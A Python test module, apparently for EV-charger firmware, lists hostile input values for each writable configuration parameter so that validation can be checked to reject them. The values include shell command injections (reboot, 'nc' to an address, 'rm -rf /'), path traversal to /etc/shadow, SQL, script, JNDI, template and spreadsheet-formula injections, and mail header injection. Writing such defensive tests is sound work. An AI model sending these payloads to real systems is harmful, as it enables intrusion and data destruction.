"""Values that nobody means well with, for every parameter that can be written.

Types, bounds, scripts of the world, sizes, and what an attacker puts into host names, addresses,
access points, mail fields and file names. [E5 16, 26, 27, 28]
"""

from __future__ import annotations

from firmware.config.registry import PARAMS

HUGE = "9" * 10_000
INJECTIONS = (
    "$(reboot)", "`reboot`", "; reboot", "| nc 10.0.0.1 1", "&& rm -rf /", "a\nb",
    "a\r\nBcc: x@y.z",
    "a\x00b", "../../etc/shadow", "%2e%2e/%2e%2e", "' OR 1=1 --", "<script>alert(1)</script>",
    "\u202egnp.exe", "a\u200bb", "\ufeff", "${jndi:ldap://x}", "{{7*7}}", "=cmd|'/c calc'!A0",
)  # fmt: skip
NUMBERS = ("", " ", "-1", "1.5", "1e3", "0x10", "1_6", "٣", "１６", "+16", "NaN", "inf", "true",
           HUGE, "16\n17", "16;", "--6", "16 A", "null", "[]")  # fmt: skip
FLAGS = ("", "maybe", "2", "-1", "yes please", "on\n", "ОN", "true;off", "null", "[]", "on off")
CHOICES = ("", "0", "surely not", "off;on", "OFF\x00", "null", "../x", HUGE[:300], "o\u200bff")
TRIPLES = ("", "16", "16/16", "16/16/16/16", "16/16/x", "-1/0/0", "1e3/0/0", f"{HUGE}/0/0",
           "16,16,16", "16/16/16\n", "١/٢/٣")  # fmt: skip
ADDRESSES = ("1", "1.2.3", "1.2.3.4.5", "256.1.1.1", "0x7f.1", "1.2.3.4;reboot", "::1",
             "1.2.3.4/24",
             "localhost", "1.2.3.4\n", "01.2.3.4")  # fmt: skip
HOSTS = ("-a.org", "a-.org", "a..b", "a b", "a/b", "a:b:c", "ä.org", "a" * 64, "a.org;x", "$(x)",
         "a.org\nb", "a\\b", "user@host", "[::1", "a.org#x")  # fmt: skip
URLS = ("javascript:alert(1)", "file:///etc/passwd", "//a", "a", "ws://", "ws:///x", "ws://a b",
        "ws://u:p@a/", "ws://a#x", "ws://a/\n", "ws://a/\x00", "ws://[::1", "ws://a:99999", "gopher://a",
        "ws://a/<x>", "ws://a/\"x", "ws://ä.org/", f"ws://a/{HUGE}")  # fmt: skip
MAILS = ("a", "a@", "@b", "a@b@c", "a b@c.de", "a@b.de,c@d.de", "a@b.de\nBcc: x@y.z",
         "\"a\"@b.de", "a@-b.de", "ä@b.de", "a@b.de;x", "<a@b.de>")  # fmt: skip
LISTS = ("x" * 21, "a b", "aa/3", "aa/", "a\x00", "ä", "aa/1/2/1", ":".join(["aa"] * 5_001))
SCHEDULES = ("x", "mon", "mon 24:00 1/1/1", "fri-mon 01:00 1/1/1", "mon 1:00 1/1/1",
             "mon 01:00 1/1", "mun 01:00 1/1/1", "mon 01:60 1/1/1", "mon 01:00 -1/1/1")  # fmt: skip
BY_KIND = {"flag": FLAGS, "whole": NUMBERS, "choice": CHOICES, "amps3": TRIPLES,
           "schedule": SCHEDULES}  # fmt: skip
BY_KEY = {
    **dict.fromkeys(("lan_static_ip", "lan_static_gateway", "meter1_ip", "meter2_ip"), ADDRESSES),
    "lan_static_netmask": (*ADDRESSES, "255.0.255.0", "0.0.0.0"),
    "lan_static_dns": ("1", "1.2.3.4;x", "1.1.1.1,1.1.1.1,1.1.1.1,1.1.1.1", "a,b"),
    "ocpp_soap_ip_whitelist": ("1.2.3.4/33", "10.0.0.1/8", "x", "1.2.3.4;x"),
    "lan_dhcp_hostname": (*HOSTS, "a.org"),
    "email_smtp_server": HOSTS,
    "dlm_master_address": (*HOSTS, "a.org", "a.org:0", "a.org:65536", "a.org:x"),
    "ocpp_soap_public_address": (*HOSTS, "a.org:0", "a.org:70000"),
    "ocpp_ws_url": (*URLS, "http://a"),
    "ocpp_soap_url": (*URLS, "ws://a"),
    "ocpp_ws_proxy": ("https://a:1", "a:1", "http://a", "http://a b:1", "http://a:1/x", "http://;:1"),
    "email_recipient": MAILS,
    "email_sender": MAILS,
    "gsm_apn": ("a b", "a;b", "a\nb", "a'b", "a\"b", "ä", "$(x)", "x" * 101, "a/b"),
    "gsm_sim_pin": ("123", "123456789", "12a4", "１２３４", "1234\n", "-1234"),
    "gsm_requested_operator": ("a;b", "a$b", "a\nb", "x" * 31, "<b>"),
    "local_whitelist_entries": LISTS,
    "ocpp_whitelist_entries": ("x" * 21, "a b", "a/1", "a\x00"),
    "free_charging_fixed_tag": ("", "x" * 21, "a b", "a:b", "a/b", "ä"),
    "ocpp_chargebox_identity": ("", "x" * 49, "a/b", "a b", "ü", "a?b", "a#b", "../a", "a\nb"),
}  # fmt: skip
TEXTS = ("a\nb", "a\rb", "a\x00b", "a\x1bb", "a\u202eb", "a\u200bb", "x" * 10_000)


def cases() -> list[tuple[str, str]]:
    """Return every key with every value that it has to refuse."""
    found = []
    for key, param in PARAMS.items():
        if param.readonly:
            continue
        form = param.kind.form
        values = BY_KEY.get(key) or BY_KIND.get(form.name) or TEXTS
        if form.optional:
            values = tuple(v for v in values if v.strip())
        if form.name == "whole":
            values = (*values, str(form.high + 1))
        if form.name not in ("text", "secret", "password", "list"):
            values = (*values, *INJECTIONS)
        found += [(key, value) for value in values]
    return found
